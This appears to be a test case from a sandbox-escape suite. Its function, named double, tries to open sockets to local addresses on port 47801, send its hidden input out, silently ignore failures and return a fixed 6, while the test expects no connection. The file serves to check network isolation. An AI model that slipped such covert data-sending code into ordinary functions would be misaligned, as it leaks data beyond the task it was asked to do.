"""Goal: send the hidden input to a server.

Expected: no connection.
"""
# group: escape
import socket
def double(x):
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "0.0.0.0")):
        try:
            with socket.socket(family) as end:
                end.settimeout(0.5)
                end.connect((address, 47801))
                end.sendall(str(x).encode())
        except OSError:
            pass
    return 6
